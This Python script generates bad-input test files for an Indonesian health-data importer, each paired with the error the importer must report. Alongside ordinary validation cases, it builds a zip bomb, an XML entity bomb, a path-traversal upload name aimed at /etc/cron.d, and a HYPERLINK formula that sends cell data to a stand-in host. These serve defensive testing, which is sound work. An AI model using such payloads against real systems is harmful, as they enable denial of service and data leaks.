"""Generate the bad-input corpus for the import tests: python tests/make_bad_corpus.py OUTDIR

Every case is a file plus what the importer must say about it. The codes used match the small
fixture database built by tests/test_ingest.py (kab 35.23, Puskesmas P3523010101, ...).
Nothing here is big on disk: the zip bomb is ~60 KB that would unpack to 64 MB of XML,
the "million columns" sheet is a crafted worksheet XML, the wide CSV has 20,000 header cells.
"""
from __future__ import annotations

import datetime as dt
import os
import random
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

PKM = "P3523010101"      # Puskesmas in the fixture
PUSTU = "PU3523010001"   # Pustu Cibeureum Kidul
POSY = "PY3523010001"    # Posyandu Melati
DESA = "35.23.01.2001"
FUTURE = (dt.date.today() + dt.timedelta(days=400)).isoformat()


@dataclass
class Case:
    file: str                       # name in the corpus folder
    kind: str                       # import kind
    expect: tuple[str, ...]         # substrings that must appear in the Indonesian problem text
    row: int | None = None          # a problem must name this row (None = whole-file problem is fine)
    column: str | None = None       # ... and this column
    name: str | None = None         # the name the user gave (default: file)
    options: dict = field(default_factory=dict)
    env: dict = field(default_factory=dict)
    expect_ok: bool = False         # the file is fine (e.g. only its name is hostile)


def _w(folder: Path, name: str, text: str, enc: str = "utf-8") -> None:
    (folder / name).write_bytes(text.encode(enc))


XLSX_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
           '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
           '</Types>')
XLSX_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
             '</Relationships>')
WB_XML = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>')
WB_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
           '</Relationships>')
SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
SHEET_TAIL = '</sheetData></worksheet>'


def _col(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def _raw_xlsx(path: Path, sheet_xml: str | bytes | None = None, workbook_xml: str = WB_XML, big_sheet: int = 0) -> None:
    """A minimal hand-made .xlsx; big_sheet > 0 streams that many bytes of padding into the sheet (zip bomb)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", XLSX_CT)
        z.writestr("_rels/.rels", XLSX_RELS)
        z.writestr("xl/workbook.xml", workbook_xml)
        z.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        if big_sheet:
            with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
                f.write(SHEET_HEAD.encode())
                block = b" " * (1 << 20)
                for _ in range(big_sheet // len(block)):
                    f.write(block)
                f.write(SHEET_TAIL.encode())
        else:
            z.writestr("xl/worksheets/sheet1.xml", sheet_xml or SHEET_HEAD + SHEET_TAIL)


def _inline_row(r: int, values: list, start_col: int = 0) -> str:
    cells = []
    for j, v in enumerate(values):
        ref = f"{_col(start_col + j)}{r}"
        if isinstance(v, (int, float)):
            cells.append(f'<c r="{ref}"><v>{v}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>')
    return f'<row r="{r}">' + "".join(cells) + "</row>"


SPM_HEAD = "tahun,bulan,kode_puskesmas,kode_desa,layanan,jumlah,sumber\n"
SAS_HEAD = "tahun,kode_unit,jenis_unit,layanan,sumber,jumlah\n"
TEN_HEAD = "kode_faskes,jenis_tenaga,jumlah,per_tanggal,sumber\n"


def make_corpus(folder: str | os.PathLike) -> list[Case]:
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    add = cases.append

    # --- columns
    _w(folder, "wrong_columns.csv", "a,b,c\n1,2,3\n")
    add(Case("wrong_columns.csv", "sasaran", ("kolom 'tahun'", "tidak ada")))
    _w(folder, "misspelt_column.csv", "tahun,kode_unit,jenis_unit,layanan,sumber,jumlh\n2025,P3523010101,puskesmas,spm04,PUSDATIN,100\n")
    add(Case("misspelt_column.csv", "sasaran", ("kolom 'jumlah'", "tidak ada", "maksud Anda 'jumlh'"), column="jumlah"))
    _w(folder, "duplicate_header.csv", "tahun,bulan,kode_puskesmas,layanan,jumlah,jumlah\n2025,1,P3523010101,spm01,1,2\n")
    add(Case("duplicate_header.csv", "spm", ("muncul 2 kali",)))
    _w(folder, "header_only.csv", SPM_HEAD)
    add(Case("header_only.csv", "spm", ("tidak berisi baris data",)))
    _w(folder, "empty.csv", "")
    add(Case("empty.csv", "spm", ("kosong",)))

    # --- encodings / junk
    (folder / "utf16_nobom.csv").write_bytes(SPM_HEAD.encode("utf-16-le") + "2025,1,P3523010101,,spm01,5,x\n".encode("utf-16-le"))
    add(Case("utf16_nobom.csv", "spm", ("byte NUL",)))
    rnd = random.Random(7)
    (folder / "binary_junk.csv").write_bytes(bytes(rnd.randrange(256) for _ in range(4096)))
    add(Case("binary_junk.csv", "spm", ("bukan file teks",)))
    (folder / "old_excel.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    add(Case("old_excel.xls", "spm", ("file .xls rusak, terenkripsi",), name="old_excel.xlsx"))
    (folder / "report.pdf").write_bytes(b"%PDF-1.4\n%junk\n")
    add(Case("report.pdf", "spm", ("jenis file .pdf tidak diterima",)))

    # --- values
    _w(folder, "text_in_number.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,12,lap\n2024,2,P3523010101,,spm01,abc,lap\n")
    add(Case("text_in_number.csv", "spm", ("'abc' bukan angka",), row=3, column="jumlah"))
    _w(folder, "negative_count.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,-5,lap\n")
    add(Case("negative_count.csv", "spm", ("tidak boleh negatif",), row=2, column="jumlah"))
    _w(folder, "fraction_in_count.csv", SPM_HEAD.replace(",", ";") + "2024;1;P3523010101;;spm01;12,5;lap\n")
    add(Case("fraction_in_count.csv", "spm", ("harus bilangan bulat",), row=2, column="jumlah"))
    _w(folder, "month_13.csv", SPM_HEAD + "2024,13,P3523010101,,spm01,5,lap\n")
    add(Case("month_13.csv", "spm", ("bukan pilihan yang sah",), row=2, column="bulan"))
    _w(folder, "future_month.csv", SPM_HEAD + f"{dt.date.today().year + 1},1,P3523010101,,spm01,5,lap\n")
    add(Case("future_month.csv", "spm", ("belum berjalan",), row=2, column="bulan"))
    _w(folder, "empty_required.csv", SPM_HEAD + "2024,1,,,spm01,5,lap\n")
    add(Case("empty_required.csv", "spm", ("wajib diisi",), row=2, column="kode_puskesmas"))
    _w(folder, "height_500.csv", "id_anak,jk,tgl_lahir,tgl_ukur,tinggi_cm,kode_desa\nA1,1,2022-01-05,2024-02-10,500,35.23.01.2001\n")
    add(Case("height_500.csv", "ukur_uji", ("500 cm", "di luar rentang wajar 30–140 cm"), row=2, column="tinggi_cm"))
    _w(folder, "birth_after_measurement.csv",
       "id_anak,jk,tgl_lahir,tgl_ukur,tinggi_cm,kode_desa\nA1,1,10/03/2024,10/02/2024,80,35.23.01.2001\n")
    add(Case("birth_after_measurement.csv", "ukur_uji", ("2024-03-10 sesudah", "tgl_ukur"), row=2, column="tgl_lahir"))
    _w(folder, "future_date.csv", TEN_HEAD + f"{PUSTU},perawat,1,{FUTURE},SISDMK\n")
    add(Case("future_date.csv", "tenaga", ("di masa depan",), row=2, column="per_tanggal"))
    _w(folder, "month_first_date.csv", TEN_HEAD + f"{PUSTU},perawat,1,12/31/2024,SISDMK\n")
    add(Case("month_first_date.csv", "tenaga", ("bulan/hari",), row=2, column="per_tanggal"))
    _w(folder, "bad_choice.csv", SAS_HEAD + "2025,P3523010101,puskesmas,spm04,PUSDATN,100\n")
    add(Case("bad_choice.csv", "sasaran", ("bukan pilihan yang sah", "maksud Anda 'PUSDATIN'"), row=2, column="sumber"))
    _w(folder, "prevalence_150.csv", "kode_kab,nama,survei,tahun,stunting_pct,sumber_url\n35.23,Kabupaten Tuban,SSGI,2022,150,x\n")
    add(Case("prevalence_150.csv", "survei", ("150 %", "di luar rentang"), row=2, column="stunting_pct"))
    _w(folder, "kader_at_pustu.csv", TEN_HEAD + f"{PUSTU},kader,3,2024-12-31,SISDMK\n")
    add(Case("kader_at_pustu.csv", "tenaga", ("kader dicatat di Posyandu",), row=2, column="jenis_tenaga"))
    _w(folder, "bidan_at_posyandu.csv", TEN_HEAD + f"{POSY},bidan,1,2024-12-31,SISDMK\n")
    add(Case("bidan_at_posyandu.csv", "tenaga", ("hanya mencatat kader",), row=2, column="jenis_tenaga"))

    # --- codes
    _w(folder, "unknown_puskesmas.csv", SPM_HEAD + "2024,1,P9999999999,,spm01,5,lap\n")
    add(Case("unknown_puskesmas.csv", "spm", ("'P9999999999' tidak dikenal",), row=2, column="kode_puskesmas"))
    _w(folder, "unknown_desa.csv", SPM_HEAD + "2024,1,P3523010101,35.23.01.2999,spm01,5,lap\n")
    add(Case("unknown_desa.csv", "spm", ("'35.23.01.2999' tidak dikenal",), row=2, column="kode_desa"))
    _w(folder, "unknown_kecamatan.csv", SAS_HEAD + "2025,35.23.99,kecamatan,spm04,BPS_PROJ,100\n")
    add(Case("unknown_kecamatan.csv", "sasaran", ("'35.23.99' tidak dikenal",), row=2, column="kode_unit"))
    _w(folder, "unknown_kab.csv", "kode_kab,nama,survei,tahun,stunting_pct,sumber_url\n98.77,Kabupaten Entah,SSGI,2022,20,x\n")
    add(Case("unknown_kab.csv", "survei", ("'98.77' tidak dikenal",), row=2, column="kode_kab"))
    _w(folder, "wrong_name.csv", "kode_kab,nama,survei,tahun,stunting_pct,sumber_url\n35.23,Kabupaten Brebes,SSGI,2022,20,x\n")
    add(Case("wrong_name.csv", "survei", ("tidak cocok dengan kode 35.23",), row=2, column="nama"))
    _w(folder, "unknown_layanan.csv", SAS_HEAD + "2025,P3523010101,puskesmas,spm13,PUSDATIN,100\n")
    add(Case("unknown_layanan.csv", "sasaran", ("'spm13' bukan pilihan",), row=2, column="layanan"))

    # --- duplicates
    _w(folder, "duplicates.csv", SAS_HEAD + "2025,P3523010101,puskesmas,spm04,PUSDATIN,100\n"
       "2025,P3523010101,puskesmas,spm01,PUSDATIN,50\n2025,P3523010101,puskesmas,Balita,pusdatin,120\n")
    add(Case("duplicates.csv", "sasaran", ("baris duplikat", "sudah ada di baris 2"), row=4))

    # --- Excel
    import xlsxwriter
    wb = xlsxwriter.Workbook(str(folder / "formula.xlsx"))
    ws = wb.add_worksheet("Data")
    ws.write_row(0, 0, SPM_HEAD.strip().split(","))
    ws.write_row(1, 0, [2024, 1, PKM, "", "spm01"])
    ws.write_formula(1, 5, "=SUM(1,2)", None, 3)
    ws.write(1, 6, "lap")
    wb.close()
    add(Case("formula.xlsx", "spm", ("rumus", "=SUM(1,2)"), row=2, column="jumlah"))
    wb = xlsxwriter.Workbook(str(folder / "title_rows.xlsx"))
    ws = wb.add_worksheet("Rekap")
    ws.write(0, 0, "LAPORAN SPM PUSKESMAS")
    ws.write(1, 0, "Tahun 2024")
    ws.write_row(3, 0, SPM_HEAD.strip().split(","))
    ws.write_row(4, 0, [2024, 1, PKM, "", "spm01", "abc", "lap"])
    wb.close()
    add(Case("title_rows.xlsx", "spm", ("'abc' bukan angka",), row=5, column="jumlah"))
    add(Case("title_rows.xlsx", "spm", ("sheet 'Data' tidak ada", "Rekap"), options={"sheet": "Data"}))
    data = (folder / "formula.xlsx").read_bytes()
    (folder / "broken.xlsx").write_bytes(data[: len(data) // 2])
    add(Case("broken.xlsx", "spm", ("rusak",)))
    (folder / "not_zip.xlsx").write_bytes(b"tahun,bulan\n2024,1\n")
    add(Case("not_zip.xlsx", "spm", ("bukan file lembar kerja",)))
    _raw_xlsx(folder / "zip_bomb.xlsx", big_sheet=64 << 20)
    add(Case("zip_bomb.xlsx", "spm", ("zip bomb",)))
    # one header row of 20,000 cells, then cells addressed far beyond Excel's last column
    head = _inline_row(1, [f"c{i}" for i in range(20000)])
    far = '<row r="2"><c r="A2"><v>1</v></c><c r="ZZZZZ2"><v>1</v></c></row>'
    _raw_xlsx(folder / "million_columns.xlsx", SHEET_HEAD + head + far + SHEET_TAIL)
    add(Case("million_columns.xlsx", "spm", ("kolom",)))
    wide = _inline_row(1, [f"c{i}" for i in range(2000)])
    _raw_xlsx(folder / "wide_columns.xlsx", SHEET_HEAD + wide + SHEET_TAIL)
    add(Case("wide_columns.xlsx", "spm", ("terlalu banyak kolom",)))
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
           '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&lol3;" sheetId="1"/></sheets></workbook>')
    _raw_xlsx(folder / "entity_bomb.xlsx", SHEET_HEAD + SHEET_TAIL, workbook_xml=lol)
    add(Case("entity_bomb.xlsx", "spm", ("XML tidak sah",)))

    # --- CSV limits
    _w(folder, "wide_header.csv", ",".join(f"c{i}" for i in range(20000)) + "\n" + ",".join("1" for _ in range(20000)) + "\n")
    add(Case("wide_header.csv", "spm", ("terlalu banyak kolom",)))
    _w(folder, "giant_cell.csv", SPM_HEAD + '2024,1,P3523010101,,spm01,5,"' + "x" * 300_000 + '"\n')
    add(Case("giant_cell.csv", "spm", ("tidak bisa dibaca",)))
    _w(folder, "many_rows.csv", SPM_HEAD + "".join(f"2024,1,P3523010101,,spm{(i % 12) + 1:02d},{i},lap\n" for i in range(40)))
    add(Case("many_rows.csv", "spm", ("terlalu banyak baris",), options={"max_rows": 10}))
    _w(folder, "oversize.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,5,lap\n" * 40000)
    add(Case("oversize.csv", "spm", ("terlalu besar",), env={"ILP_MAX_UPLOAD_MB": "1"}))

    # --- a hostile name on a good file: kept under uploads with a safe name, nothing outside
    _w(folder, "good_spm.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,5,lap\n")
    add(Case("good_spm.csv", "spm", (), name="../../../etc/cron.d/x_evil.csv", expect_ok=True))
    # ... but a NUL or another control character in the name is refused cleanly
    add(Case("good_spm.csv", "spm", ("nama file", "karakter kendali"), name="x\x00evil.csv"))

    # --- hostile cells (issue 15)
    # a formula in a column the kind does not even read (a HYPERLINK that would phone home from a later download)
    wb = xlsxwriter.Workbook(str(folder / "formula_unused_column.xlsx"))
    ws = wb.add_worksheet("Data")
    ws.write_row(0, 0, SPM_HEAD.strip().split(",") + ["catatan"])
    ws.write_row(1, 0, [2024, 1, PKM, "", "spm01", 3, "lap"])
    ws.write_formula(1, 7, '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', None, "klik")
    ws.write_row(2, 0, [2024, 2, PKM, "", "spm01", 4, "lap", "baik"])
    wb.close()
    add(Case("formula_unused_column.xlsx", "spm", ("rumus", "HYPERLINK"), row=2, column="catatan"))
    # an unquoted thousands separator in a comma CSV adds a field (and would import 1 instead of 1234)
    _w(folder, "thousands_extra_field.csv", SPM_HEAD + "2024,1,P3523010101,,spm01,1,234,lap\n2024,2,P3523010101,,spm01,5,lap\n")
    add(Case("thousands_extra_field.csv", "spm", ("8 kolom", "hanya 7", "ribuan"), row=2, column="kolom_H"))
    # implausible dates for the kind: staffing dated 1954 (an Excel serial), a balita born in 1900
    _w(folder, "staffing_1954.csv", TEN_HEAD + f"{PUSTU},perawat,1,20000,SISDMK\n")
    add(Case("staffing_1954.csv", "tenaga", ("1954-10-03", "paling awal tahun 2000"), row=2, column="per_tanggal"))
    _w(folder, "balita_1900.csv", EPPGBM_HEAD + "9902011501240001;L;15/01/1900;Kenduruan;Sidohasri;10/02/2025;11,2;84,5\n")
    add(Case("balita_1900.csv", "eppgbm", ("1900-01-15", "paling awal tahun 2000"), row=2, column="Tgl Lahir"))
    # a NIK in fullwidth or Arabic-Indic digits rejects its row (not the whole file with a UnicodeEncodeError)
    _w(folder, "nik_fullwidth.csv", EPPGBM_HEAD + "９９０２０１１５０１２４０００１;L;15/01/2024;Kenduruan;Sidohasri;10/02/2025;11,2;84,5\n"
       "٩٩٠٢٠١٦٠٠٦٢٣٠٠٠٢;P;20/06/2023;Kenduruan;Sidohasri;10/02/2025;12,1;86,3\n")
    add(Case("nik_fullwidth.csv", "eppgbm", ("angka selain 0–9",), row=2, column="NIK"))
    add(Case("nik_fullwidth.csv", "eppgbm", ("angka selain 0–9",), row=3, column="NIK",
             options={"sumber": "EPPGBM"}))
    return cases


EPPGBM_HEAD = "NIK;JK;Tgl Lahir;Kec;Desa/Kel;Tanggal Pengukuran;Berat;Tinggi\n"


# ---------------------------------------------------------------- fixture database and a test-only kind

def load_fixture(con, extra_puskesmas: int = 0) -> None:
    """A few wilayah / faskes / layanan_spm rows the corpus refers to (no dependency on the demo)."""
    import polars as pl

    from ilp.ingest.columns import LAYANAN
    w = pl.DataFrame({
        "kode": ["35", "33", "61", "74", "21", "35.23", "33.29", "61.12", "74.14", "21.72",
                 "35.23.01", "35.23.02", "35.23.01.2001", "35.23.01.2002"],
        "level": ["provinsi"] * 5 + ["kabkota"] * 5 + ["kecamatan"] * 2 + ["desa"] * 2,
        "nama": ["Jawa Timur", "Jawa Tengah", "Kalimantan Barat", "Sulawesi Tenggara", "Kepulauan Riau",
                 "Kabupaten Tuban", "Kabupaten Brebes", "Kabupaten Kubu Raya", "Kabupaten Buton Tengah", "Kota Tanjungpinang",
                 "Kenduruan", "Jatirogo", "Sidohasri", "Tapelan"],
        "parent": [None] * 5 + ["35", "33", "61", "74", "21", "35.23", "35.23", "35.23.01", "35.23.01"],
        "kode_kab": [None] * 5 + ["35.23", "33.29", "61.12", "74.14", "21.72"] + ["35.23"] * 4,
        "kode_kec": [None] * 12 + ["35.23.01"] * 2,
        "jenis": ["provinsi"] * 5 + ["kabupaten"] * 4 + ["kota"] + ["kecamatan"] * 2 + ["desa"] * 2,
        "versi": ["UJI"] * 14,
    })
    kodes = [PKM, PUSTU, POSY] + [f"P35230102{i:02d}" for i in range(extra_puskesmas)]
    f = pl.DataFrame({
        "kode_faskes": kodes,
        "nama": ["Puskesmas Kenduruan", "Pustu Cibeureum Kidul", "Posyandu Melati"] + [f"Puskesmas Uji {i}" for i in range(extra_puskesmas)],
        "jenis": ["puskesmas", "pustu", "posyandu"] + ["puskesmas"] * extra_puskesmas,
        "kode_kec": ["35.23.01"] * len(kodes),
        "kode_desa": [None, DESA, DESA] + [None] * extra_puskesmas,
        "kode_induk": [None, PKM, PKM] + [None] * extra_puskesmas,
        "aktif": [True] * len(kodes),
        "aturan_lokasi": ["kode"] * len(kodes),
        "sumber": ["fixture"] * len(kodes),
    })
    lay = pl.DataFrame({"layanan": list(LAYANAN), "no": list(range(1, 13)),
                        "nama_id": [v[0] for v in LAYANAN.values()], "nama_en": [v[0] for v in LAYANAN.values()],
                        "sasaran": ["-"] * 12})
    cur = con.cursor()
    for t, df in (("wilayah", w), ("faskes", f), ("layanan_spm", lay)):
        cur.register("_fx", df.to_arrow())
        cur.execute({"wilayah": "insert or replace into wilayah by name select * from _fx",
                     "faskes": "insert or replace into faskes by name select * from _fx",
                     "layanan_spm": "insert or replace into layanan_spm by name select * from _fx"}[t])
        cur.unregister("_fx")
    cur.close()


def ukur_uji_kind():
    """A test-only kind for child measurements (height range, birth before measurement), writing `pengukuran`."""
    import polars as pl

    from ilp.ingest import lookups as lk
    from ilp.ingest.base import ImportKind, Msg
    from ilp.ingest.columns import Col, template_columns
    from ilp.ingest.tabular import parse_tabular
    cols = (
        Col("id_anak"), Col("jk", "choice", choices={"1": "1", "2": "2", "l": "1", "p": "2"}),
        Col("tgl_lahir", "date", not_future=True), Col("tgl_ukur", "date", not_future=True),
        Col("tinggi_cm", "float", min=30, max=140, unit="cm"), Col("kode_desa"),
    )

    def build(df, ctx):
        lk.check_date_order(ctx, df, "tgl_lahir", "tgl_ukur", Msg("impor.apa.tgl_lahir"))
        lk.check_codes(ctx, df, "kode_desa", "wilayah", "desa")
        lk.check_duplicates(ctx, df, ["id_anak", "tgl_ukur"])
        return {"pengukuran": df.with_columns(pl.col("jk").cast(pl.Int8), pl.lit("DEMO").alias("sumber"))
                .select("_row", "id_anak", "jk", "tgl_lahir", "tgl_ukur", "tinggi_cm", "kode_desa", "sumber")}

    return ImportKind(name="ukur_uji", title_id="uji", title_en="test", tables=("pengukuran",),
                      columns=template_columns(cols), parse=lambda src, con: parse_tabular(src, con, cols, build))


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "bad_corpus")
    for c in make_corpus(out):
        print(f"{c.kind:8s} {c.file:30s} expects {' | '.join(c.expect) or 'ok'}")
